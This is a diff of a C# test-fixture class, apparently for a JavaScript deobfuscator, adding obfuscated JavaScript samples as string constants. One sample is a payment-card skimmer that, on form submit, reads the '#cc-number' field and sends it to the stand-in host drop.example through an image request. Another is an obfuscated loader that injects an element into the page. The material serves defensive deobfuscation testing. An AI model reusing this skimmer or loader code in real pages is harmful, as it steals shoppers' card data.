@@ -29,4 +29,39 @@ internal static class DecoderFixtures
     public const string TagInTwoTables = """
         function _0x543c(){var r=_0x3581,t=[r(519),r(563),r(528),r(514),r(539),r(548),r(562),r(558),r(559),r(507),r(508),r(556),r(503),r(520),r(540),r(526),r(501),r(502),r(511),r(532),r(513),r(560),r(543),r(531),r(517),r(512),r(499),r(506),r(542)];return(_0x543c=function(){return t})()}function _0x5704(r,t){var W=_0x3581;r-=472;var n=_0x543c(),a=n[r];if(void 0===_0x5704[W(533)]){_0x5704[W(546)]=function(r,t){var n,a,c=W,o=[],e=0,x="";for(r=function(r){for(var t,n,a=W,c=a(552),o="",e="",x=0,d=0;n=r[a(515)](d++);~n&&(t=x%4?64*t+n:n,x++%4)?o+=String[a(564)](255&t>>(-2*x&6)):0)n=c[a(530)](n);for(var u=0,f=o[a(554)];u<f;u++)e+="%"+("00"+o[a(555)](u)[a(510)](16))[a(545)](-2);return decodeURIComponent(e)}(r),a=0;a<256;a++)o[a]=a;for(a=0;a<256;a++)e=(e+o[a]+t[c(555)](a%t[c(554)]))%256,n=o[a],o[a]=o[e],o[e]=n;a=0,e=0;for(var d=0;d<r[c(554)];d++)e=(e+o[a=(a+1)%256])%256,n=o[a],o[a]=o[e],o[e]=n,x+=String[c(564)](r[c(555)](d)^o[(o[a]+o[e])%256]);return x},_0x5704[W(541)]={},_0x5704[W(533)]=!0}var c=n[0];_0x5704[W(523)]!==c&&(_0x5704[W(541)]={},_0x5704[W(523)]=c);var o=_0x5704[W(541)][r];return void 0===o?(void 0===_0x5704[W(547)]&&(_0x5704[W(547)]=!0),a=_0x5704[W(546)](a,t),_0x5704[W(541)][r]=a):a=o,a}function _0x4a5c(){var r=["W4ldUvzComosWOS0W57cHa","3823788tJQGgV","slice","JlvGIo","gsqubr","Fmkto8oQngTvW5T4W7ddO8ozW48","^Z$s","2077080QejwXu","TpL%","abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=","push","length","charCodeAt","A186ba0hW5CEtHfwWRO","691728xBLGPW","WPXGW7/cO8kYwaupWQicW6NdIW","rCkDvu7cMSkHlKpcImkm","W6WdWODWBfS0WRFcS8oq","3uf@","WPNcKCo4xfhcG8kDW745imkk","FSkrlSoUlMPtW590W7hdOG","fromCharCode","5K33","1tl$","28zR","o1aAWP3cNW7cPuRcH1aIWOW","9EVtuaD","W604W7r6p8kWF0tdJstdUx5u","WQf8oSkw","WOdcOSk3w8kyW7Wq","45SqonGe","735023smnxsz","ECoEWPzJWP/cPcSXW47dT2ZcNvVcHSktk8kNESkPWRvIWRrfWPVdOG","WOZdVNVcSxGNW5HIWRSrWRq","WOpdHHpdQ8kyWQy","ThTU","toString","BSkAW4Cez8oeCSkCaJa","WRBcOaJdUSo8WO/dP1fZgKRcRq","WQPmf8o1iazrgSobfgxdGCod","W69zW5ubtxGL","charAt","skrH","W4tcUtVcGc7dRt4FDCk1","4232370OXStRn","rSkBxKNdKSolA3NcJmkFW7JdPmoC","W4RdICkojCkAiKi","6a@t","k]Mq","ZVdNyB","1U&2","K8t)","nhe/WOhcSxxdPY3cRIC","12UWZVhS","WOpdLWi","1690675pRJLla","indexOf","EmopjCkZWQ8Fvq","yCkSmvpcSSk0uu1MW4VcS8oGW5u","NwZCER","mrEc","shift","CBVa","3442570ZIXPMy","BRmK","WOBdNCoRcSo0WPblxNmmFHmm","ymo1xSo4W6i","taSYym","WOuLW67dRmkYW4VcVJtdU8o+Bmk8WQC"];return(_0x4a5c=function(){return r})()}function _0x3581(r,t){return r-=497,_0x4a5c()[r]}!function(){for(var r=_0x3581,t=_0x4a5c();;)try{if(581882===-parseInt(r(505))/1+-parseInt(r(557))/2*(parseInt(r(500))/3)+-parseInt(r(544))/4+parseInt(r(518))/5+-parseInt(r(527))/6*(-parseInt(r(529))/7)+parseInt(r(550))/8+parseInt(r(504))/9*(parseInt(r(537))/10))break;t.push(t.shift())}catch(r){t.push(t.shift())}}(),function(){for(var r=_0x3581,t=_0x5704,W=_0x543c();;)try{if(259946===-parseInt(t(479,r(498)))/1*(-parseInt(t(475,r(516)))/2)+-parseInt(t(491,r(522)))/3*(-parseInt(t(484,r(536)))/4)+parseInt(t(498,r(565)))/5+parseInt(t(500,r(521)))/6+parseInt(t(496,r(534)))/7*(parseInt(t(487,r(524)))/8)+-parseInt(t(476,r(536)))/9+parseInt(t(490,r(549)))/10*(-parseInt(t(481,r(538)))/11))break;W[r(553)](W[r(535)]())}catch(t){W[r(553)](W[r(535)]())}}(),function(){var r=_0x3581,t=_0x5704,W=document[t(477,r(551))](t(482,r(561)));W[t(486,r(509))]=!0,W[t(474,r(561))]=t(499,r(497)),document[t(489,r(525))][t(473,r(551))](W)}();
         """;
+
+    /// <summary>A table whose own parts another obfuscation has put away: the operator before the offset, the call that hands the list out, and the sum that turns it.</summary>
+    public const string SkimmerBehindStores = """
+        function _t() { var t = ['value', 'https://drop.example/x.gif?c=', 'onsubmit', '7x', '5y', '#cc-number']; _t = function () { return t; }; return _t(); }
+        function _d(i, k) {
+            var s = { minus: function (a, b) { return a - b; }, call: function (a) { return a(); } };
+            i = s['minus'](i, 16);
+            var l = s['call'](_t), r = l[i];
+            return r;
+        }
+        (function (f, n) {
+            var s = { plus: function (a, b) { return a + b; }, call: function (a, b) { return a(b); }, same: function (a, b) { return a === b; } }, d = _d, l = s.call(f);
+            while (!![]) {
+                try {
+                    var v = s['plus'](s['call'](parseInt, s['call'](d, 17)), parseInt(d(18)) / 5);
+                    if (s['same'](v, n)) break; else l['push'](l['shift']());
+                } catch (e) { l['push'](l['shift']()); }
+            }
+        }(_t, 8));
+        var base = { join: function (a, b) { return a + b; }, pick: function (a, b) { return a(b); } };
+        var over = {
+            add: function (a, b) { function w(z, y) { return y; } return base[w(1, 'join')](a, b); },
+            pick: function (a, b) { var other = base; return other['pick'](a, b); }
+        };
+        document.forms[0][over.pick(_d, 16)] = function () {
+            var order = '1|0'.split('|'), step = 0;
+            while (!![]) {
+                switch (order[step++]) {
+                    case '0': new Image().src = over.add(over.pick(_d, 21), field[_d(20)]); continue;
+                    case '1': var field = document.querySelector(over.pick(_d, 19)); continue;
+                }
+                break;
+            }
+        };
+        """;
 }
